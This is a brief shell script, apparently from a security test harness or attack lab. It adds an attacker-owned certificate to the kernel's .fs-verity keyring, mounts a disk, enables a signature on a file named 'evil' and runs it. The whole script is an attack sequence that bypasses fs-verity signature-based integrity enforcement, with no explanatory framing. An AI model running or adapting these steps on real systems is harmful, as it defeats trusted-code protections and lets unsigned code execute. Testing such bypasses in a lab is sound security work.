# shellcheck shell=sh
#
# key-fs-verity - add a key to .fs-verity and run what it signed
#
# SPDX-License-Identifier: MIT

/attack/addkey /attack/own.der .fs-verity
mkdir -p /tmp/fsverity
mount /dev/vdc /tmp/fsverity
/attack/fsverity /tmp/fsverity/evil /attack/evil.fsverity
/tmp/fsverity/evil
umount /tmp/fsverity
